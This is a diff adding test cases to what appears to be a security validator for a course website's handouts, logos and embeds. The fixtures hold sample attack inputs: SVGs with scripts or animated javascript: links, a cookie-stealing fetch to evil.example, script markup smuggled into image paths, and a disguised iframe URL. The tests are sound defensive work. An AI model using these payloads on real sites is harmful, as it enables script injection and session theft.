@@ -211,9 +211,35 @@ C(Case("handout-html-with-script", [Write("prog/assets/sheet.html", "<script>ste
     "minimal/prog/assets.yaml:4: error [handout-type] The handout 'assets/sheet.html' is of a type the site does not publish ('.html'); it publishes .csv, .doc, .docx, .gif, .jpeg, .jpg, .m4a, .mp3, .mp4, .odp, .ods, .odt, .pdf, .png, .ppt, .pptx, .svg, .txt, .webp, .xls, .xlsx. Save it as a PDF (or another type on the list) and name that file in assets.yaml."]))
 C(Case("handout-svg-with-script", [Write("prog/assets/map.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
                                    Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg")], [
-    "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' holds a <script> element, which can run code. Export the file again from the program that made it, or save it as a PDF or PNG."]))
+    "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' holds a <script> element, which can run code or load another file (line 1 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."]))
 C(Case("handout-pdf-that-is-html", [Write("prog/assets/sheet.pdf", "<!doctype html><script>x()</script>")], [
-    "minimal/prog/assets.yaml:4: error [handout-content] The handout 'assets/sheet.pdf' is named as a PDF (.pdf) but its content is not one. Export the file again from the program that made it, or save it as a PDF or PNG."]))
+    "minimal/prog/assets.yaml:4: error [handout-content] The handout 'assets/sheet.pdf' is named as a PDF (.pdf) but its content is not one. Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."]))
+C(Case("handout-svg-set-href-javascript", [Write("prog/assets/map.svg", '<svg xmlns="http://www.w3.org/2000/svg"><a>'
+                                                                  '<set attributeName="href" to="javascript:x()"/>'
+                                                                  '<text y="20">Click</text></a></svg>'),
+                                          Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg")], [
+    "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' has a <set> that animates 'href'; an animation may change how a diagram looks, never a link, a style sheet or an event handler (line 1 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."]))
+C(Case("handout-svg-xhtml-form", [Write("prog/assets/map.svg", '<html xmlns="http://www.w3.org/1999/xhtml"><form action="javascript:x()">'
+                                                           '<button>Go</button></form></html>'),
+                                  Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg")], [
+    "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' is not SVG: its root element is <html> of 'http://www.w3.org/1999/xhtml', not <svg> of 'http://www.w3.org/2000/svg' (line 1 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."]))
+C(Case("handout-txt-of-javascript", [Write("prog/assets/notes.txt", "fetch('//evil.example/?' + document.cookie)\n"),
+                                     Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/notes.txt")], [
+    "minimal/prog/assets.yaml:4: error [handout-content] The handout 'assets/notes.txt' reads as JavaScript on its line 1 ('fetch('), which a browser could run. Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."]))
+C(Case("logo-name-with-script", [Write("brand/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'),
+                                 Append("site.yaml", 'provider:\n  name: P\n  logo: \'"><script src="prog/assets/notes.txt"></script>.svg\'\n')], [
+    "minimal/site.yaml:5: error [image-name] The logo path '\"><script src=\"prog/assets/notes.txt\"></script>.svg' may hold only letters, digits, '.', '_' and '-', in folders separated by '/' (and no '..'). Rename the file with letters, digits, '.', '_' and '-' only, and give its path relative to site.yaml."]))
+C(Case("favicon-name-with-script", [Write("brand/icon.png", b"\x89PNG\r\n\x1a\n...."),
+                                    Append("site.yaml", 'provider:\n  name: P\n  favicon: \'brand/icon.png"><script src="x.txt"></script><link x=".png\'\n')], [
+    "minimal/site.yaml:5: error [image-name] The favicon path 'brand/icon.png\"><script src=\"x.txt\"></script><link x=\".png' may hold only letters, digits, '.', '_' and '-', in folders separated by '/' (and no '..'). Rename the file with letters, digits, '.', '_' and '-' only, and give its path relative to site.yaml."]))
+C(Case("handout-svg-animate-href-values", [Write("prog/assets/map.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
+                                                                         '<a xlink:href="#m"><animate attributeName="xlink:href" values="#m;javascript:x()" dur="9s"/>'
+                                                                         '<text id="m" y="20">Click</text></a></svg>'),
+                                           Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg")], [
+    "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' has an <animate> that animates 'xlink:href'; an animation may change how a diagram looks, never a link, a style sheet or an event handler (line 2 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."]))
+C(Case("logo-svg-with-script", [Write("brand/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
+                                Append("site.yaml", "provider:\n  name: P\n  logo: brand/logo.svg\n")], [
+    "minimal/site.yaml:5: error [image-content] The SVG logo 'brand/logo.svg' holds a <script> element, which can run code or load another file (line 1 of the file). Export the image again (an SVG as plain SVG, with no script, link or animated link), or use a PNG."]))
 C(Case("iframe-backslash-userinfo", [Append(READ, "\n<iframe src=\"https://evil.example\\@www.youtube-nocookie.com/embed/abc\" title=\"x\"></iframe>\n")], [
     "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] An <iframe> may only load https:// addresses on www.youtube-nocookie.com, player.vimeo.com; this one loads 'https://evil.example\\@www.youtube-nocookie.com/embed/abc'. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."]))
 C(Case("short-ipv4-loopback-link", [Append(READ, "\n[Local](http://127.1:8000/)\n")], [
